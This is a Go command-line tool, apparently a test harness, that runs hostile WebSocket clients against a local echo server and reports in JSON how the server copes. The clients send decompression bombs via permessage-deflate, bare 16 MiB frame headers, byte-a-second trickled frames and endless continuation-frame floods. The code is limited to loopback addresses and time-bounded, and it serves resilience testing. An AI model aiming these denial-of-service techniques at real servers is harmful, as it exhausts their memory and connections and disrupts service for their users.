// Command attack runs the hostile peers of issue 24 against an echo server (cmd/echoserver)
// and prints what they did to it, one JSON line per run:
//
//	attack -mode deflate -addr 127.0.0.1:19001 -T 8   # compressing peers beside probes: the probes' round trips
//	attack -mode header -conns 5000 -debug 127.0.0.1:19002   # a bare 16 MiB header each: heap per connection
//	attack -mode trickle -conns 200 -T 150            # a frame trickled at 1 B/s: when each was ended
//	attack -mode slow -size 16777215 -rate 262144     # a legitimate slow sender: is its message echoed
//	attack -mode continuation                         # endless empty continuation frames: when ended
//
// deflate: -attackers connections negotiate permessage-deflate and send -burst messages at a time,
// each -inflate bytes of zeros deflated to about a thousandth, read the echoes, and repeat; -probes
// other connections each echo 32 bytes every 10 ms, and their round trips are reported (p50, p99,
// max, count). header and trickle measure the server's heap through echoserver's -debug address.
// Loopback only; every run is bounded by -T.
package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/klauspost/compress/flate"
)

func main() {
	mode := flag.String("mode", "deflate", "deflate, header, trickle, slow or continuation")
	addr := flag.String("addr", "127.0.0.1:19001", "the echo server (loopback)")
	debug := flag.String("debug", "", "the server's /debug/stats address (header, trickle)")
	T := flag.Duration("T", 8*time.Second, "how long the run lasts at most")
	attackers := flag.Int("attackers", 2, "deflate: compressing connections")
	burst := flag.Int("burst", 16, "deflate: messages an attacker sends at a time")
	inflate := flag.Int("inflate", 15<<20, "deflate: the size of each attacker message once inflated")
	probes := flag.Int("probes", 20, "deflate: connections that echo 32 bytes every 10 ms")
	conns := flag.Int("conns", 200, "header, trickle: connections")
	size := flag.Int("size", 16<<20-1, "header, trickle, slow: the frame's announced length")
	rate := flag.Int("rate", 256<<10, "slow: bytes a second")
	label := flag.String("label", "", "a label for the JSON line (the server's name)")
	spinning := flag.Int("spinning", 0, "how many processes spin beside the run, for the JSON line (scripts/bench-attack's SPIN)")
	flag.Parse()
	if !strings.HasPrefix(*addr, "127.") {
		fatal(errors.New("loopback addresses only"))
	}
	raiseNoFile()
	var res map[string]any
	var err error
	switch *mode {
	case "deflate":
		res, err = runDeflate(*addr, *T, *attackers, *burst, *inflate, *probes)
	case "header":
		res, err = runHeader(*addr, *debug, *conns, *size)
	case "trickle":
		res, err = runTrickle(*addr, *T, *conns, *size)
	case "slow":
		res, err = runSlow(*addr, *T, *size, *rate)
	case "continuation":
		res, err = runContinuation(*addr, *T)
	default:
		err = fmt.Errorf("unknown mode %q", *mode)
	}
	if err != nil {
		fatal(err)
	}
	res["mode"], res["label"], res["spinning"] = *mode, *label, *spinning
	b, _ := json.Marshal(res)
	fmt.Println(string(b))
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "attack:", err)
	os.Exit(1)
}

func raiseNoFile() {
	var l syscall.Rlimit
	if syscall.Getrlimit(syscall.RLIMIT_NOFILE, &l) == nil && l.Cur < l.Max {
		l.Cur = l.Max
		syscall.Setrlimit(syscall.RLIMIT_NOFILE, &l)
	}
}

// conn is a raw WebSocket client connection.
type conn struct {
	nc net.Conn
	br *bufio.Reader
}

// dial connects and shakes hands; ext is the Sec-WebSocket-Extensions offer, if any, which the
// server must accept.
func dial(addr, ext string) (*conn, error) {
	nc, err := net.DialTimeout("tcp", addr, 10*time.Second)
	if err != nil {
		return nil, err
	}
	req := "GET / HTTP/1.1\r\nHost: " + addr + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
		"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
	if ext != "" {
		req += "Sec-WebSocket-Extensions: " + ext + "\r\n"
	}
	nc.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(nc, req+"\r\n"); err != nil {
		nc.Close()
		return nil, err
	}
	br := bufio.NewReaderSize(nc, 64<<10)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		nc.Close()
		return nil, err
	}
	if resp.StatusCode != http.StatusSwitchingProtocols {
		nc.Close()
		return nil, fmt.Errorf("handshake: %s", resp.Status)
	}
	if ext != "" && !strings.Contains(resp.Header.Get("Sec-WebSocket-Extensions"), "permessage-deflate") {
		nc.Close()
		return nil, errors.New("the server did not accept permessage-deflate")
	}
	nc.SetDeadline(time.Time{})
	return &conn{nc: nc, br: br}, nil
}

// frame encodes a masked client frame with first byte b0 (mask key 0: the payload goes as is).
func frame(b0 byte, payload []byte) []byte {
	return append(header(b0, len(payload)), payload...)
}

func header(b0 byte, n int) []byte {
	h := []byte{b0, 0}
	switch {
	case n < 126:
		h[1] = byte(n)
	case n < 1<<16:
		h[1] = 126
		h = binary.BigEndian.AppendUint16(h, uint16(n))
	default:
		h[1] = 127
		h = binary.BigEndian.AppendUint64(h, uint64(n))
	}
	h[1] |= 0x80
	return append(h, 0, 0, 0, 0)
}

// readFrame reads a server frame; with skip set it discards the payload.
func (c *conn) readFrame(skip bool) (b0 byte, payload []byte, err error) {
	var h [10]byte
	if _, err = io.ReadFull(c.br, h[:2]); err != nil {
		return 0, nil, err
	}
	n := int64(h[1] & 0x7f)
	switch n {
	case 126:
		if _, err = io.ReadFull(c.br, h[2:4]); err != nil {
			return 0, nil, err
		}
		n = int64(binary.BigEndian.Uint16(h[2:4]))
	case 127:
		if _, err = io.ReadFull(c.br, h[2:10]); err != nil {
			return 0, nil, err
		}
		n = int64(binary.BigEndian.Uint64(h[2:10]))
	}
	if skip {
		_, err = c.br.Discard(int(n))
		return h[0], nil, err
	}
	payload = make([]byte, n)
	_, err = io.ReadFull(c.br, payload)
	return h[0], payload, err
}

// closeCode waits for the server's close frame (or the end of the connection) and returns its
// code, 1006 for none.
func (c *conn) closeCode() int {
	for {
		b0, p, err := c.readFrame(false)
		if err != nil {
			return 1006
		}
		if b0&0x0f == 8 {
			if len(p) >= 2 {
				return int(binary.BigEndian.Uint16(p))
			}
			return 1005
		}
	}
}

// deflated is n bytes of zeros deflated as a peer sends them, without the sync tail.
func deflated(n int) []byte {
	var z bytes.Buffer
	fw, _ := flate.NewWriter(&z, flate.BestCompression)
	zeros := make([]byte, 1<<20)
	for ; n > 0; n -= len(zeros) {
		fw.Write(zeros[:min(n, len(zeros))])
	}
	fw.Flush()
	return z.Bytes()[:z.Len()-4]
}

func runDeflate(addr string, T time.Duration, attackers, burst, inflate, probes int) (map[string]any, error) {
	msg := frame(0xC2, deflated(inflate))
	var batch []byte
	for range burst {
		batch = append(batch, msg...)
	}
	end := time.Now().Add(T)
	var wg sync.WaitGroup
	var echoed atomic.Int64
	var aerr atomic.Pointer[error]
	for range attackers {
		c, err := dial(addr, "permessage-deflate; client_no_context_takeover")
		if err != nil {
			return nil, err
		}
		defer c.nc.Close()
		wg.Add(1)
		go func() {
			defer wg.Done()
			c.nc.SetDeadline(end.Add(30 * time.Second))
			for time.Now().Before(end) {
				if _, err := c.nc.Write(batch); err != nil {
					aerr.Store(&err)
					return
				}
				for range burst {
					if _, _, err := c.readFrame(true); err != nil {
						aerr.Store(&err)
						return
					}
					echoed.Add(1)
				}
			}
		}()
	}
	var mu sync.Mutex
	var rtts []time.Duration
	var perr atomic.Pointer[error]
	for i := range probes {
		c, err := dial(addr, "")
		if err != nil {
			return nil, err
		}
		defer c.nc.Close()
		wg.Add(1)
		go func() {
			defer wg.Done()
			p := make([]byte, 32)
			tick := time.NewTicker(10 * time.Millisecond)
			defer tick.Stop()
			time.Sleep(time.Duration(i) * 10 * time.Millisecond / time.Duration(probes))
			c.nc.SetDeadline(end.Add(30 * time.Second))
			for time.Now().Before(end) {
				binary.BigEndian.PutUint64(p, uint64(time.Now().UnixNano()))
				start := time.Now()
				if _, err := c.nc.Write(frame(0x82, p)); err != nil {
					perr.Store(&err)
					return
				}
				if _, _, err := c.readFrame(false); err != nil {
					perr.Store(&err)
					return
				}
				d := time.Since(start)
				mu.Lock()
				rtts = append(rtts, d)
				mu.Unlock()
				<-tick.C
			}
		}()
	}
	wg.Wait()
	if p := perr.Load(); p != nil {
		return nil, fmt.Errorf("probe: %w", *p)
	}
	res := map[string]any{"attackers": attackers, "probes": probes, "wire_bytes": len(msg), "inflated": inflate,
		"attack_echoes": echoed.Load()}
	if p := aerr.Load(); p != nil {
		res["attacker_error"] = (*p).Error()
	}
	slices.Sort(rtts)
	q := func(f float64) float64 {
		if len(rtts) == 0 {
			return 0
		}
		return float64(rtts[min(len(rtts)-1, int(f*float64(len(rtts))))].Microseconds()) / 1000
	}
	res["round_trips"], res["p50_ms"], res["p99_ms"], res["max_ms"] = len(rtts), q(0.50), q(0.99), q(1)
	return res, nil
}

type stats struct {
	HeapInuse  uint64 `json:"heap_inuse"`
	RSSKB      uint64 `json:"rss_kb"`
	Goroutines int    `json:"goroutines"`
}

func serverStats(debug string) (stats, error) {
	var s stats
	if debug == "" {
		return s, errors.New("-debug is required")
	}
	resp, err := http.Get("http://" + debug + "/debug/stats?gc=2")
	if err != nil {
		return s, err
	}
	defer resp.Body.Close()
	return s, json.NewDecoder(resp.Body).Decode(&s)
}

// runHeader connects conns idle connections, measures the server, has each send a frame header
// announcing size bytes and nothing else, and measures again.
func runHeader(addr, debug string, conns, size int) (map[string]any, error) {
	base, err := serverStats(debug)
	if err != nil {
		return nil, err
	}
	cs := make([]*conn, 0, conns)
	defer func() {
		for _, c := range cs {
			c.nc.Close()
		}
	}()
	for range conns {
		c, err := dial(addr, "")
		if err != nil {
			return nil, err
		}
		cs = append(cs, c)
	}
	time.Sleep(time.Second)
	idle, err := serverStats(debug)
	if err != nil {
		return nil, err
	}
	hdr := header(0x82, size)
	for _, c := range cs {
		if _, err := c.nc.Write(hdr); err != nil {
			return nil, err
		}
	}
	time.Sleep(2 * time.Second)
	held, err := serverStats(debug)
	if err != nil {
		return nil, err
	}
	per := func(a, b uint64) float64 { return (float64(a) - float64(b)) / float64(conns) / 1024 }
	return map[string]any{"conns": conns, "received_kib": conns * len(hdr) / 1024,
		"idle_heap_kib_per_conn":   per(idle.HeapInuse, base.HeapInuse),
		"header_heap_kib_per_conn": per(held.HeapInuse, base.HeapInuse),
		"beyond_idle_kib_per_conn": per(held.HeapInuse, idle.HeapInuse),
		"rss_kib_per_conn":         per(held.RSSKB*1024, base.RSSKB*1024)}, nil
}

// runTrickle has each connection announce a size-byte frame and send one byte of it a second; it
// reports when the server ended them, and how many it had not ended after T.
func runTrickle(addr string, T time.Duration, conns, size int) (map[string]any, error) {
	start := time.Now()
	end := start.Add(T)
	var wg sync.WaitGroup
	var mu sync.Mutex
	var ended []time.Duration
	codes := map[int]int{}
	for range conns {
		c, err := dial(addr, "")
		if err != nil {
			return nil, err
		}
		defer c.nc.Close()
		c.nc.Write(header(0x82, size))
		wg.Add(2)
		done := make(chan struct{})
		go func() { // the server's close frame, or the end
			defer wg.Done()
			defer close(done)
			c.nc.SetReadDeadline(end)
			code := c.closeCode()
			if time.Now().Before(end) {
				mu.Lock()
				ended = append(ended, time.Since(start))
				codes[code]++
				mu.Unlock()
			}
		}()
		go func() {
			defer wg.Done()
			t := time.NewTicker(time.Second)
			defer t.Stop()
			for {
				select {
				case <-done:
					return
				case <-t.C:
					if time.Now().After(end) {
						return
					}
					c.nc.Write([]byte{0})
				}
			}
		}()
	}
	wg.Wait()
	slices.Sort(ended)
	res := map[string]any{"conns": conns, "ended": len(ended), "still_open_after_s": T.Seconds(),
		"open": conns - len(ended), "codes": codes}
	if len(ended) > 0 {
		res["first_ended_s"], res["last_ended_s"] = ended[0].Seconds(), ended[len(ended)-1].Seconds()
	}
	return res, nil
}

// runSlow sends one size-byte binary message at rate bytes a second and waits for its echo.
func runSlow(addr string, T time.Duration, size, rate int) (map[string]any, error) {
	c, err := dial(addr, "")
	if err != nil {
		return nil, err
	}
	defer c.nc.Close()
	start := time.Now()
	c.nc.SetDeadline(start.Add(T))
	payload := make([]byte, size)
	for i := range payload {
		payload[i] = byte(i)
	}
	msg := frame(0x82, payload)
	chunk := max(rate/10, 1)
	for i := 0; i < len(msg); i += chunk {
		if _, err := c.nc.Write(msg[i:min(i+chunk, len(msg))]); err != nil {
			return map[string]any{"size": size, "rate": rate, "echoed": false, "error": err.Error(),
				"after_s": time.Since(start).Seconds()}, nil
		}
		time.Sleep(time.Until(start.Add(time.Duration(i+chunk) * time.Second / time.Duration(rate))))
	}
	_, p, err := c.readFrame(false)
	ok := err == nil && bytes.Equal(p, payload)
	res := map[string]any{"size": size, "rate": rate, "echoed": ok, "took_s": time.Since(start).Seconds()}
	if err != nil {
		res["error"] = err.Error()
	}
	return res, nil
}

// runContinuation starts a text message and sends empty continuation frames without end.
func runContinuation(addr string, T time.Duration) (map[string]any, error) {
	c, err := dial(addr, "")
	if err != nil {
		return nil, err
	}
	defer c.nc.Close()
	start := time.Now()
	c.nc.SetDeadline(start.Add(T))
	var flood []byte
	for range 4096 {
		flood = append(flood, frame(0x00, nil)...)
	}
	var sent atomic.Int64
	go func() {
		c.nc.Write(frame(0x01, []byte("a")))
		for time.Now().Before(start.Add(T)) {
			if _, err := c.nc.Write(flood); err != nil {
				return
			}
			sent.Add(4096)
		}
	}()
	code := c.closeCode()
	return map[string]any{"code": code, "ended_s": time.Since(start).Seconds(), "frames_sent": sent.Load(),
		"ended": time.Since(start) < T}, nil
}
